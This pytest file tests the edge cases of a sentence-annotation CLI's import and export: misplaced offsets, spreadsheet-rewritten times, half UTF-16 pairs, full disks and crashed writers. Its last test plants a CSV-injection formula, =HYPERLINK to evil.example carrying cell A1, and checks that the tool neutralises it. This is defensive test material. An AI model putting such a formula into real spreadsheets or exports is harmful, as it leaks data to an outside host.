"""Hostile pass over the data path (CLI and store), each finding once broken.

Every case here was, on main, a tag put where no sentence is, a cell that
did not come back, a traceback or raw terminal bytes; now it is placed
right, refused in one line, or inert.
"""

from __future__ import annotations

import shutil
import sqlite3

import pytest

from tests.conftest import SEED, run_tui
from tests.test_store_faults import _fill

# The seed's first two paragraphs, as `tui parse` splits them.
P1S1 = ("Russia is unfazed by the U.S. announcement last week that antimissile cooperation "
        "talks have been suspended due to the events in Ukraine, Interfax reported.")
P2S1 = ("The two countries had been holding preliminary discussions on areas of possible "
        "missile defense collaboration in accord with a 2010 Lisbon agreement.")
P2S2 = ("However, the talks never gained much traction due to fundamental differences of "
        "opinion about U.S. missile interceptors planned for fielding in the coming years "
        "in Europe.")
P2S3 = ("Moscow sees the weapons as a threat to its nuclear arsenal and does not accept political "
        "assurances from Washington that the missiles are only intended as protection from "
        "possible attacks launched from the Middle East.")


def _story(tmp_path):
    article = tmp_path / "story.txt"
    shutil.copy(SEED, article)
    return article


def _query(db, sql):
    conn = sqlite3.connect(db)  # closed at once: an open one would keep tui's WAL
    try:
        return conn.execute(sql).fetchall()
    finally:
        conn.close()


def _tags(db):
    return _query(db, 'SELECT paragraph, sentence, start, "end", label, text '
                      'FROM annotations ORDER BY start, "end"')


def test_rows_whose_offsets_are_not_a_sentence_are_not_placed_there(tmp_path):
    """A model's span file, a hand-edited spreadsheet: offsets of a word, of an
    empty or reversed span, of two sentences, or a wrong sentence number.

    Main placed every one of these at its offsets, as if it were a sentence
    (four tags on a paragraph of one sentence, sentence numbers 3, 4 and 7
    that do not exist); only a span that is a sentence is placed, under the
    number the text has."""
    article = _story(tmp_path)
    both = P2S1 + " " + P2S2
    rows = [
        "article_path,paragraph,sentence,label,text,start,end",
        f"{article},1,1,claim,Russia,0,6",  # a word at the paragraph's start
        f"{article},1,2,claim,reported.,147,156",  # a word at its end
        f"{article},1,3,background,,10,5",  # reversed, empty
        f"{article},1,4,background,,7,7",  # empty
        f'{article},2,1,claim,"{both}",158,479',  # two sentences
        f'{article},1,7,quote,"{P1S1}",0,156',  # sentence 1, numbered 7
        f'{article},2,1,background,"{P2S2}",308,479',  # sentence 2, numbered 1
    ]
    source = tmp_path / "spans.csv"
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    db = tmp_path / "a.db"
    result = run_tui("import", str(source), "--db", str(db))
    assert result.returncode == 1, result.stderr
    assert result.stdout == "read 7, added 2, updated 0, unchanged 0, not placed 5\n"
    assert _tags(db) == [(1, 1, 0, 156, "quote", P1S1), (2, 2, 308, 479, "background", P2S2)]
    assert "not placed: row 1: text matches no sentence: 'Russia'\n" in result.stderr
    assert "not placed: row 5: text matches no sentence" in result.stderr


def test_a_wrong_sentence_number_past_the_first_is_corrected(tmp_path):
    """Main placed a row under any sentence number its offsets came with
    (a spreadsheet's fill-down turns 3 into 2): the tag was keyed to another
    sentence's number. The number is now checked against the row before
    (or the paragraph split) and the text's own number is stored."""
    article = _story(tmp_path)
    rows = [
        "article_path,paragraph,sentence,label,text,start,end",
        f'{article},2,4,background,"{P2S3}",480,698',  # the paragraph's first row
        f'{article},2,1,claim,"{P2S1}",158,307',
        f'{article},2,2,quote,"{P2S3}",480,698',  # after sentence 1, but not next to it
    ]
    source = tmp_path / "numbers.csv"
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    db = tmp_path / "a.db"
    result = run_tui("import", str(source), "--db", str(db))
    assert result.returncode == 0, result.stderr
    assert _tags(db) == [(2, 1, 158, 307, "claim", P2S1), (2, 3, 480, 698, "quote", P2S3)]


@pytest.mark.xfail(strict=True, reason=(
    "left: offsets from a paragraph's start to an abbreviation's '. ' (or from there, "
    "row after row) pass the import's cheap check; an exact one splits every paragraph "
    "(~0.2 s a MB, ~25 s more on the 1M-row import)"))
def test_a_span_ending_at_an_abbreviation_is_not_placed(tmp_path):
    article = _story(tmp_path)
    source = tmp_path / "spans.csv"
    source.write_text("article_path,paragraph,sentence,label,text,start,end\n"
                      f"{article},1,1,claim,Russia is unfazed by the U.S.,0,29\n",
                      encoding="utf-8")
    db = tmp_path / "a.db"
    run_tui("import", str(source), "--db", str(db))
    assert _tags(db) == []


def _noted_db(tmp_path, notes):
    """A database with the seed's first sentences tagged claim, with these
    notes (imported from JSONL, which is never neutralised)."""
    import json

    article = _story(tmp_path)
    spots = [(1, 1, 0, 156, P1S1), (2, 1, 158, 307, P2S1), (2, 2, 308, 479, P2S2)]
    lines = [json.dumps({"article_path": str(article), "paragraph": p, "sentence": s,
                         "start": a, "end": b, "text": text, "label": "claim", "note": note})
             for (p, s, a, b, text), note in zip(spots, notes)]
    source = tmp_path / "notes.jsonl"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    db = tmp_path / "a.db"
    result = run_tui("import", str(source), "--db", str(db))
    assert result.returncode == 0, result.stderr
    return db


def _notes(db):
    return [n for (n,) in _query(db, "SELECT note FROM annotations ORDER BY start")]


def test_a_raw_export_round_trips_notes_before_its_first_bare_formula(tmp_path):
    """tui export --raw, then tui import: the file is known to be --raw only
    at its first bare formula (row 3 here). Main had already taken the ' off
    the notes of rows 1 and 2 ("'=SUM(A1)" came back "=SUM(A1)", "''=x" as
    "'=x"); the import now starts again as --raw and keeps them."""
    db = _noted_db(tmp_path, ["'=SUM(A1)", "''=x", "=1+1"])
    out = tmp_path / "raw.csv"
    assert run_tui("export", "--raw", "-o", str(out), "--db", str(db)).returncode == 0
    again = tmp_path / "b.db"
    result = run_tui("import", str(out), "--db", str(again))
    assert (result.returncode, result.stdout) == (
        0, "read 3, added 3, updated 0, unchanged 0, not placed 0\n")
    assert _notes(again) == ["'=SUM(A1)", "''=x", "=1+1"]
    # A neutralised export of the same notes still round-trips.
    out = tmp_path / "safe.csv"
    assert run_tui("export", "-o", str(out), "--db", str(db)).returncode == 0
    third = tmp_path / "c.db"
    assert run_tui("import", str(out), "--db", str(third)).returncode == 0
    assert _notes(third) == ["'=SUM(A1)", "''=x", "=1+1"]


def test_a_raw_export_on_standard_input_says_what_it_could_not_keep(tmp_path):
    db = _noted_db(tmp_path, ["'=SUM(A1)", "", "=1+1"])
    exported = run_tui("export", "--raw", "--db", str(db)).stdout
    again = tmp_path / "b.db"
    result = run_tui("import", "-", "--db", str(again), input=exported)
    assert result.returncode == 0, result.stderr
    assert ("standard input: a --raw export (seen at a bare formula) whose earlier cells had "
            "a ' taken off; import it from a file to keep them as written\n") in result.stderr


def _csv_one_row(tmp_path, name, label, updated):
    article = tmp_path / "story.txt"
    source = tmp_path / name
    source.write_text("article_path,paragraph,sentence,label,text,start,end,created_at,updated_at\n"
                      f'{article},1,1,{label},"{P1S1}",0,156,{updated},{updated}\n',
                      encoding="utf-8")
    return source


def test_times_are_compared_as_times_and_a_spreadsheets_are_refused(tmp_path):
    """Times decide which version of a tag wins, compared as text. Main kept
    any cell as written: 16:00 at +02:00 (14:00 UTC, older) beat 15:00 UTC,
    and a spreadsheet's "27/11/2026 14:09" sorted after every time of 2026,
    winning every later import and merge for good."""
    _story(tmp_path)
    db = tmp_path / "a.db"
    first = _csv_one_row(tmp_path, "first.csv", "claim", "2026-11-27T15:00:00.000000+00:00")
    assert run_tui("import", str(first), "--db", str(db)).returncode == 0
    older = _csv_one_row(tmp_path, "older.csv", "quote", "2026-11-27T16:00:00+02:00")
    result = run_tui("import", str(older), "--db", str(db))
    assert result.stdout == "read 1, added 0, updated 0, unchanged 1, not placed 0\n"
    assert _query(db, "SELECT label, updated_at FROM annotations") == [
        ("claim", "2026-11-27T15:00:00.000000+00:00")]
    # Another zone, and no zone (UTC, as tui writes), are stored as tui writes times.
    newer = _csv_one_row(tmp_path, "newer.csv", "quote", "2026-11-27T18:00:00+02:00")
    assert run_tui("import", str(newer), "--db", str(db)).returncode == 0
    bare = _csv_one_row(tmp_path, "bare.csv", "background", "2026-11-27 17:00")
    assert run_tui("import", str(bare), "--db", str(db)).returncode == 0
    assert _query(db, "SELECT label, created_at, updated_at FROM annotations") == [
        ("background", "2026-11-27T15:00:00.000000+00:00", "2026-11-27T17:00:00.000000+00:00")]
    before = db.read_bytes()
    excel = _csv_one_row(tmp_path, "excel.csv", "quote", "27/11/2026 14:09")
    result = run_tui("import", str(excel), "--db", str(db))
    assert (result.returncode, result.stderr) == (
        2, f"tui: {excel}: row 1: created_at '27/11/2026 14:09' is not an ISO 8601 time (as a "
        "spreadsheet may rewrite it); delete the created_at and updated_at columns to import "
        "with the time of the import\n")
    assert db.read_bytes() == before


def test_whole_second_utc_times_get_the_fraction_and_odd_ones_the_general_reading():
    """_utc_time's shortcut for whole seconds in UTC (the bench's and many
    tools' times) gives the general reading's text, and leaves every other
    layout, valid or not, to it."""
    from tui.exchange.importer import ImportFormatError, _utc_time

    def utc(cell):
        try:
            return _utc_time(cell, "f.csv", "row", 7, "created_at")
        except ImportFormatError as exc:
            return str(exc)

    assert utc("2026-01-05T09:00:00+00:00") == "2026-01-05T09:00:00.000000+00:00"
    assert utc("0999-12-31T23:59:59+00:00") == "0999-12-31T23:59:59.000000+00:00"
    # Same length and zone, other layouts: read (and rewritten) by the general path.
    assert utc("2026-01-05T0900.123+00:00") == "2026-01-05T09:00:00.123000+00:00"
    assert utc("2026-01-05T09:00:00+01:00") == "2026-01-05T08:00:00.000000+00:00"
    assert utc("2026-13-05T09:00:00+00:00") == (
        "f.csv: row 7: created_at '2026-13-05T09:00:00+00:00' is not an ISO 8601 time (as a "
        "spreadsheet may rewrite it); delete the created_at and updated_at columns to import "
        "with the time of the import")


def _wait_for(condition, what):
    import time

    deadline = time.monotonic() + 60
    while not condition():
        assert time.monotonic() < deadline, f"gave up waiting for {what}"
        time.sleep(0.02)


def _has_open(pid, path):
    import os

    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except FileNotFoundError:
        return False
    for fd in fds:
        try:
            if os.readlink(f"/proc/{pid}/fd/{fd}") == str(path):
                return True
        except OSError:
            pass
    return False


def test_a_failed_import_does_not_remove_a_new_database_another_program_has_open(tmp_path):
    """An import into a new database that fails removes the database it made,
    so that no empty annotations.db is left behind. On main it did so while
    another program had opened that database meanwhile (a reader window, a
    second import): that program's tags then went to a removed file and
    failed ("cannot open database"). The database now stays when another
    connection has it open (SQLite keeps the -wal then)."""
    import os
    import subprocess
    import sys

    from tests.conftest import ROOT

    article = _story(tmp_path)
    db = tmp_path / "new.db"
    importer = subprocess.Popen(
        [os.path.join(os.path.dirname(sys.executable), "tui"),
         "import", "-", "--db", str(db)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    window = None
    try:
        importer.stdin.write("article_path,paragraph,sentence,label,text,start,end\n"
                             f'{article},1,1,claim,"{P1S1}",0,156\n')
        importer.stdin.flush()
        _wait_for(lambda: _has_open(importer.pid, db), "the import to open its new database")
        # A second program opens it (and waits for the import's write lock).
        window = subprocess.Popen(
            [sys.executable, str(ROOT / "tests" / "child_store.py"), str(db), str(article), "ben"],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})
        # Connected through SQLite (its -shm mapped), not only the header read.
        _wait_for(lambda: _has_open(window.pid, tmp_path / "new.db-shm"),
                  "the second program to open the database")
        # The import meets a bad row and fails.
        _, err = importer.communicate(f"{article},1,1,claim,x,zero,1\n", timeout=60)
        assert importer.returncode == 2, err
        assert window.stdout.readline() == '"ready"\n', window.stderr.read()
        window.stdin.write("tag 1 1 quote -\n")
        window.stdin.flush()
        assert window.stdout.readline() == '{"label": "quote", "message": null}\n'
    finally:
        importer.kill()
        if window is not None:
            window.stdin.close()
            window.wait(timeout=30)
    assert _query(db, "SELECT annotator, label, text FROM annotations") == [("ben", "quote", P1S1)]


@pytest.mark.parametrize("key", ["note", "annotator", "article_path", "file_hash"])
def test_half_a_utf16_pair_in_jsonl_is_one_line_not_a_traceback(tmp_path, key):
    """JSON may escape half a surrogate pair ("\\ud83d": an emoji cut in two by
    a tool counting UTF-16 units). Main ended in a UnicodeEncodeError
    traceback (exit 1) when it reached SQLite or a path lookup."""
    import json

    article = _story(tmp_path)
    row = {"article_path": str(article), "paragraph": 1, "sentence": 1, "start": 0,
           "end": 156, "text": P1S1, "label": "claim"}
    row[key] = row.get(key, "") + "cut \ud83d"
    source = tmp_path / "cut.jsonl"
    source.write_text(json.dumps(row) + "\n", encoding="ascii")  # json.dumps escapes it
    assert "\\ud83d" in source.read_text()
    db = tmp_path / "new.db"
    result = run_tui("import", str(source), "--db", str(db))
    assert (result.returncode, result.stderr) == (
        2, f"tui: {source}:1: '{key}' holds half a UTF-16 pair ('\\ud83d'), not a character "
        "(cut by the program that wrote it?)\n")
    assert not db.exists()


def test_a_coder_name_that_is_not_utf8_is_one_line_not_a_traceback(tmp_path):
    """A coder name from argv or the environment with a byte that is not
    UTF-8 (a Latin-1 terminal, an old script) reaches Python as a lone
    surrogate. Main accepted it and ended in a UnicodeEncodeError traceback
    at the first write (tui import) or query (tui export --annotator)."""
    import os

    article = _story(tmp_path)
    source = tmp_path / "one.csv"
    source.write_text("article_path,paragraph,sentence,label,text\n"
                      f'{article},1,1,claim,"{P1S1}"\n', encoding="utf-8")
    db = tmp_path / "a.db"
    name = os.fsdecode(b"an\xffa")
    result = run_tui("--annotator", name, "import", str(source), "--db", str(db))
    assert (result.returncode, result.stderr) == (2, "tui: --annotator an\\udcffa is not UTF-8 text\n")
    result = run_tui("import", str(source), "--db", str(db), env={"TUI_ANNOTATOR": name})
    assert (result.returncode, result.stderr) == (2, "tui: TUI_ANNOTATOR an\\udcffa is not UTF-8 text\n")
    assert not db.exists()
    assert run_tui("import", str(source), "--db", str(db)).returncode == 0
    result = run_tui("export", "--annotator", name, "--db", str(db))
    assert (result.returncode, result.stderr) == (2, "tui: --annotator an\\udcffa is not UTF-8 text\n")


def test_on_a_full_disk_the_saved_tags_can_still_be_read_and_exported(tmp_path):
    """The disk holding the database fills up. Main refused every command,
    export included ("the disk is full; not saved": SQLite cannot size the
    -shm a reading connection needs), so the tags could not even be exported
    elsewhere to save them. Now the reading commands read it (as immutable
    when its -wal is empty) and writes are refused in one line."""
    from tests.helpers_mounts import tmpfs

    article = _story(tmp_path)
    source = tmp_path / "one.csv"
    source.write_text("article_path,paragraph,sentence,label,text,start,end\n"
                      f'{article},1,1,claim,"{P1S1}",0,156\n', encoding="utf-8")
    with tmpfs(tmp_path / "disk", size="1m") as disk:
        db = disk / "a.db"
        assert run_tui("import", str(source), "--db", str(db)).returncode == 0
        _fill(disk)
        # A write first: it fails, and leaves an empty -wal and a stub -shm.
        more = tmp_path / "more.csv"
        more.write_text("article_path,paragraph,sentence,label,text,start,end\n"
                        f'{article},2,1,quote,"{P2S1}",158,307\n', encoding="utf-8")
        result = run_tui("import", str(more), "--db", str(db))
        assert (result.returncode, result.stderr) == (
            2, f"tui: tags can't be saved: {db} is on a full disk\n")
        out = tmp_path / "rescued.csv"
        result = run_tui("export", "-o", str(out), "--db", str(db))
        assert (result.returncode, result.stderr) == (
            0, f"tui: exported 1 annotation(s) to {out}\n")
        assert out.read_text(encoding="utf-8").count(P1S1) == 1
        result = run_tui("export", "--format", "jsonl", "--db", str(db))
        assert result.returncode == 0 and result.stdout.count("\n") == 1
        result = run_tui("orphans", "--db", str(db))
        assert (result.returncode, result.stderr) == (0, "0 orphan(s)\n")
        result = run_tui("status", "--format", "tsv", "--db", str(db))
        assert result.returncode == 0, result.stderr
        assert result.stdout.splitlines()[1].split("\t")[5:8] == ["1", "0", "0"]


_CRASH_MID_WRITE = """
import os, signal, sqlite3, sys
conn = sqlite3.connect(sys.argv[1], isolation_level=None)
conn.execute("PRAGMA journal_mode = DELETE")
conn.execute("PRAGMA cache_size = 1")  # pages spill into the file before the commit
conn.execute("BEGIN")
conn.execute("UPDATE annotations SET note = ?", ("uncommitted " * 400,))
for i in range(200):  # far more dirty pages than the cache holds
    conn.execute("INSERT INTO annotations (article_id, paragraph, sentence, start, \\"end\\", "
                 "text, label, annotator, created_at, updated_at) SELECT article_id, paragraph, "
                 "9, start + ?, \\"end\\" + ?, text || ?, label, 'ghost', created_at, updated_at "
                 "FROM annotations WHERE annotator != 'ghost'", (i + 1, i + 1, "x" * 2000))
os.kill(os.getpid(), signal.SIGKILL)
"""


def _crashed_mid_write(tmp_path, db):
    """``db`` (rollback-journal mode, as the sqlite3 shell may set it) with a
    writer killed in the middle of a transaction: a hot -journal beside it."""
    import subprocess
    import sys

    article = _story(tmp_path)
    rows = ["article_path,paragraph,sentence,label,text,start,end",
            f'{article},1,1,claim,"{P1S1}",0,156', f'{article},2,1,quote,"{P2S1}",158,307',
            f'{article},2,2,background,"{P2S2}",308,479']
    source = tmp_path / "three.csv"
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    assert run_tui("import", str(source), "--db", str(db)).returncode == 0
    child = subprocess.run([sys.executable, "-c", _CRASH_MID_WRITE, str(db)])
    assert child.returncode == -9
    assert (db.parent / f"{db.name}-journal").stat().st_size > 0


def test_an_export_after_a_writer_crashed_mid_write_reads_what_was_committed(tmp_path):
    """A writer killed mid-transaction in rollback-journal mode leaves pages
    of the file half-written and the originals in -journal. Main's read-only
    connection fell back to immutable on SQLITE_READONLY_ROLLBACK (taking it
    for a read-only folder) and read the half-written file: tui export said
    "the database file is damaged" after the header (or could export the
    uncommitted notes). The journal is now rolled back first."""
    db = tmp_path / "a.db"
    _crashed_mid_write(tmp_path, db)
    result = run_tui("export", "--format", "jsonl", "--db", str(db))
    assert result.returncode == 0, result.stderr
    assert "uncommitted" not in result.stdout and "ghost" not in result.stdout
    assert result.stdout.count("\n") == 3
    assert _query(db, "PRAGMA integrity_check") == [("ok",)]
    assert _query(db, "SELECT count(*), max(note) FROM annotations") == [(3, "")]


def test_on_a_read_only_disk_a_crashed_writers_journal_is_one_clear_line(tmp_path):
    """Where the journal cannot be rolled back (a read-only disk), main read
    the half-written file as immutable too; now one line says what to do."""
    from tests.helpers_mounts import remount_read_only, tmpfs

    with tmpfs(tmp_path / "disk", size="16m") as disk:
        db = disk / "a.db"
        _crashed_mid_write(tmp_path, db)
        remount_read_only(disk)
        result = run_tui("export", "--format", "jsonl", "--db", str(db))
        assert (result.returncode, result.stdout, result.stderr) == (
            2, "", f"tui: {db}: database error: a program stopped in the middle of a write (its "
            "-journal is beside the file); open the database once where it may be written, "
            "to finish undoing that write\n")


def test_cells_beyond_the_header_are_not_read_as_a_missing_column(tmp_path):
    """Every column the header lacks (note, annotator, times, offsets) was read
    from the cell just past the header's last: on main, a row with a stray
    cell there (a comment typed beside the row, a shifted paste) gave that
    text as the tag's note and as its created_at and updated_at."""
    article = _story(tmp_path)
    source = tmp_path / "stray.csv"
    source.write_text("article_path,paragraph,sentence,label,text,start,end\n"
                      f'{article},1,1,claim,"{P1S1}",0,156,check this,ben\n', encoding="utf-8")
    db = tmp_path / "a.db"
    result = run_tui("import", str(source), "--db", str(db), env={"TUI_ANNOTATOR": "ana"})
    assert (result.returncode, result.stdout) == (
        0, "read 1, added 1, updated 0, unchanged 0, not placed 0\n"), result.stderr
    rows = _query(db, "SELECT label, note, annotator, created_at = updated_at, "
                      "created_at LIKE '2%+00:00' FROM annotations")
    assert rows == [("claim", "", "ana", 1, 1)]


def test_an_orphans_times_are_checked_as_a_placed_tags_are(tmp_path):
    import json

    article = _story(tmp_path)
    row = {"article_path": str(article), "paragraph": None, "sentence": None, "start": 0,
           "end": 12, "text": "Gone sentence.", "label": "claim",
           "created_at": "2026-11-27T16:00:00+02:00", "updated_at": "2026-11-27T16:00:00+02:00"}
    source = tmp_path / "orphan.jsonl"
    source.write_text(json.dumps(row) + "\n", encoding="utf-8")
    db = tmp_path / "a.db"
    assert run_tui("import", str(source), "--db", str(db)).returncode == 0
    assert _query(db, "SELECT anchor, created_at, updated_at FROM annotations") == [
        ("orphan", "2026-11-27T14:00:00.000000+00:00", "2026-11-27T14:00:00.000000+00:00")]
    row["updated_at"] = "27/11/2026 14:09"
    source.write_text(json.dumps(row) + "\n", encoding="utf-8")
    result = run_tui("import", str(source), "--db", str(db))
    assert (result.returncode, result.stderr) == (
        2, f"tui: {source}: line 1: updated_at '27/11/2026 14:09' is not an ISO 8601 time (as a "
        "spreadsheet may rewrite it); delete the created_at and updated_at columns to import "
        "with the time of the import\n")


def test_status_tsv_carries_no_live_spreadsheet_formula(tmp_path):
    """tui status --format tsv wrote an article's headline and outlet as they
    were: opened in a spreadsheet, '=HYPERLINK("http://…?"&A1,…)' ran (the CSV
    injection that CSV exports neutralise). TSV cells now get the same ';
    JSON stays exact."""
    import json

    folder = tmp_path / "news"
    folder.mkdir()
    (folder / "a.txt").write_text(
        '4 April 2014\n=HYPERLINK("http://evil.example/?"&A1,"Click")\n@SUM(1+1)\n\n'
        "Russia said something. It was news.\n", encoding="utf-8")
    result = run_tui("status", str(folder), "--format", "tsv", "--db", str(tmp_path / "a.db"))
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[1].split("\t")[:4] == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(1+1)", "2014-04-04",
        str(folder / "a.txt")]
    result = run_tui("status", str(folder), "--format", "json", "--db", str(tmp_path / "a.db"))
    row = json.loads(result.stdout)[0]
    assert (row["title"], row["outlet"]) == (
        '=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)")
